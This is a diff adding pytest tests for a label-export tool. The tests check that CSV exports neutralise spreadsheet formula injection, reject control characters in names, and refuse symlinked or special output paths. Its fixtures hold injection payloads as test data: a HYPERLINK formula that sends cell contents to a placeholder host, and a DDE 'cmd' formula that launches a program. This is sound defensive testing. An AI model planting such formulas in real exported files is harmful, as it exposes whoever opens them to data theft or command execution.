@@ -420,3 +420,146 @@ def test_interrupted_export_never_leaves_a_half_file(tmp_path: Path) -> None:
     with open(out, newline="") as f:
         rows = list(csv.DictReader(f))
     assert len(rows) == 30_000 and {r["label"] for r in rows if r["cluster"] == "0"} == {"after"}
+
+
+# ------------------------------------------------------------------------------------- spreadsheet safety, --out
+
+FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'
+
+
+@pytest.fixture()
+def formula_run(tmp_path: Path) -> LabelStore:
+    """Names and ids that a spreadsheet would run, and a real YouTube id that starts with '-'."""
+    run_dir = make_label_run(tmp_path, n=12, heads=1, n_youtube=12)
+    cat_file = tmp_path / "catalog" / "clips.parquet"
+    cat = pd.read_parquet(cat_file)
+    cat.loc[0, "source_id"] = "-3B32lodo2M"  # real YouTube ids may start with '-': kept exact
+    cat.loc[4, "source_id"] = "=cmd|' /C calc'!A0"
+    cat.loc[8, "split"] = "@SUM(1+1)"
+    cat.to_parquet(cat_file, index=False)
+    store = LabelStore.open(run_dir)
+    store.rename_cluster(0, 0, FORMULA, annotator="=evil()", expected_version=None)
+    ids = [str(c) for c in store.run.clip_ids]
+    store.override_clips([ids[1]], "+1 and more", annotator="ana", expected_version=None)
+    store.override_clips([ids[2]], "-2+3", annotator="ana", expected_version=None)
+    store.override_clips([ids[3]], "@here", annotator="ana", expected_version=None)
+    return store
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(formula_run: LabelStore, tmp_path: Path) -> None:
+    ids = [str(c) for c in formula_run.run.clip_ids]
+    out = tmp_path / "labels.csv"
+    export_labels(formula_run, "csv", out)
+    with open(out, newline="", encoding="utf-8") as f:
+        rows = {r["clip_id"]: r for r in csv.DictReader(f)}
+    assert rows[ids[0]]["label"] == "'" + FORMULA and rows[ids[0]]["annotator"] == "'=evil()"
+    assert rows[ids[1]]["label"] == "'+1 and more" and rows[ids[2]]["label"] == "'-2+3"
+    assert rows[ids[3]]["label"] == "'@here"
+    for row in rows.values():
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row
+    assert (
+        json.loads(sidecar_path(out).read_text())["neutralised_cells"] == 3 + 3 + 3
+    )  # cluster 0: 3 labels, 3 annotators; 3 overrides
+    # json (and labelstudio) keep every value exact
+    export_labels(formula_run, "json", tmp_path / "labels.json")
+    clips = {c["clip_id"]: c for c in json.loads((tmp_path / "labels.json").read_text())["clips"]}
+    assert clips[ids[0]]["label"] == FORMULA and clips[ids[0]]["annotator"] == "=evil()"
+    assert clips[ids[2]]["label"] == "-2+3"
+
+
+def test_youtube_formats_neutralise_labels_but_keep_real_ids(formula_run: LabelStore, tmp_path: Path) -> None:
+    for fmt in ("kinetics", "vggsound"):
+        out = tmp_path / f"{fmt}.csv"
+        export_labels(formula_run, fmt, out)
+        with open(out, newline="", encoding="utf-8") as f:
+            lines = list(csv.reader(f))
+        where = (1, 0, 4) if fmt == "kinetics" else (0, 2, 3)  # ytid, label, split
+        rows = [tuple(r[i] for i in where) for r in (lines[1:] if fmt == "kinetics" else lines)]
+        by_id = {ytid: (label, split) for ytid, label, split in rows}
+        assert by_id["-3B32lodo2M"] == ("'" + FORMULA, "test")  # clip 0: id exact, label neutralised
+        assert by_id["'=cmd|' /C calc'!A0"][0] == "'" + FORMULA  # clip 4 (cluster 0): an id that is a formula
+        assert by_id[next(y for y in by_id if by_id[y][1] == "'@SUM(1+1)")][0] == "'" + FORMULA  # clip 8's split
+        labels = [label for _y, label, _s in rows]
+        assert "'-2+3" in labels and "'+1 and more" in labels and "'@here" in labels
+        assert len(rows) == 6  # clips 0, 4, 8 (cluster 0) and the three overrides
+
+
+def test_names_with_line_breaks_are_refused_and_an_old_one_stops_line_formats(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from selavi_core.labels import semantics
+    from selavi_core.labels.errors import LabelError
+
+    store = LabelStore.open(make_label_run(tmp_path, n=12, heads=1, n_youtube=12))
+    ids = [str(c) for c in store.run.clip_ids]
+    for bad in ("dog\nbarking", "dog\rbarking", "dog\tbarking", "dog\x00", "dog\u2028barking", "bell\x1b[31m"):
+        with pytest.raises(LabelError, match="control character"):
+            store.rename_cluster(0, 0, bad, annotator="ana", expected_version=None)
+        with pytest.raises(LabelError, match="control character"):
+            store.override_clips([ids[1]], bad, annotator="ana", expected_version=None)
+        with pytest.raises(LabelError, match="control character"):
+            store.merge_clusters(0, [0, 1], name=bad, annotator="ana", expected_version=None)
+        with pytest.raises(LabelError, match="control character"):
+            store.snapshot(bad, annotator="ana")
+    with pytest.raises(LabelError, match="control character"):
+        store.rename_cluster(0, 0, "dog", annotator="ana\x07", expected_version=None)
+    assert not store.events(), "a refused name writes nothing"
+    store.rename_cluster(0, 0, "  dog barking \n", annotator="ana", expected_version=None)  # the ends are trimmed
+    assert store.cluster_names(0)["0"] == "dog barking"
+    # a log written before the rule holds a name with a line break
+    with monkeypatch.context() as m:
+        m.setattr(semantics, "has_control_chars", lambda text: False)
+        store.rename_cluster(0, 1, "cat\nmeowing", annotator="ana", expected_version=None)
+    for fmt in ("kinetics", "vggsound"):
+        with pytest.raises(ExportError, match=r"'cat\\nmeowing' holds a line break.*one line per clip"):
+            export_labels(store, fmt, tmp_path / f"{fmt}.csv")
+        assert not (tmp_path / f"{fmt}.csv").exists()
+    export_labels(store, "csv", tmp_path / "labels.csv")  # csv quotes it: one record per clip still
+    with open(tmp_path / "labels.csv", newline="", encoding="utf-8") as f:
+        assert "cat\nmeowing" in [r["label"] for r in csv.DictReader(f)]
+
+
+def test_out_must_be_a_regular_file_or_a_new_path(
+    plain_run: LabelStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    target = tmp_path / "precious.txt"
+    target.write_text("keep me")
+    link = tmp_path / "link.csv"
+    link.symlink_to(target)
+    fifo = tmp_path / "pipe.csv"
+    os.mkfifo(fifo)
+    dir_link = tmp_path / "tree_link"
+    dir_link.symlink_to(tmp_path / "elsewhere", target_is_directory=True)
+    (tmp_path / "elsewhere").mkdir()
+    cases = [
+        ("csv", link, "is a symbolic link"),
+        ("csv", fifo, r"is a named pipe \(FIFO\)"),
+        ("json", Path("/dev/null"), "is a character device"),
+        ("fiftyone", dir_link, "is a symbolic link"),
+    ]
+    for fmt, out, says in cases:
+        with pytest.raises(ExportError, match=f"--out {out} {says}; .*regular file or a new path"):
+            export_labels(plain_run, fmt, out)
+    assert link.is_symlink() and target.read_text() == "keep me" and stat_is_fifo(fifo)
+    assert os.path.exists("/dev/null") and not os.path.isfile("/dev/null")
+    # the sidecar likewise
+    out = tmp_path / "labels.csv"
+    sidecar_path(out).symlink_to(target)
+    with pytest.raises(ExportError, match="provenance sidecar .* is a symbolic link"):
+        export_labels(plain_run, "csv", out)
+    assert target.read_text() == "keep me" and not out.exists()
+    # through the CLI: one line, exit 2
+    code = selavi(["export", str(plain_run.run.dir), "--format", "csv", "--out", str(link)])
+    err = capsys.readouterr().err
+    assert code == 2 and err.count("\n") == 1 and "is a symbolic link" in err
+    # a new path and a previous export (a regular file) are fine
+    fresh = tmp_path / "new" / "labels.csv"
+    export_labels(plain_run, "csv", fresh)
+    export_labels(plain_run, "csv", fresh)
+    assert fresh.is_file() and not fresh.is_symlink()
+
+
+def stat_is_fifo(path: Path) -> bool:
+    import stat
+
+    return stat.S_ISFIFO(os.lstat(path).st_mode)
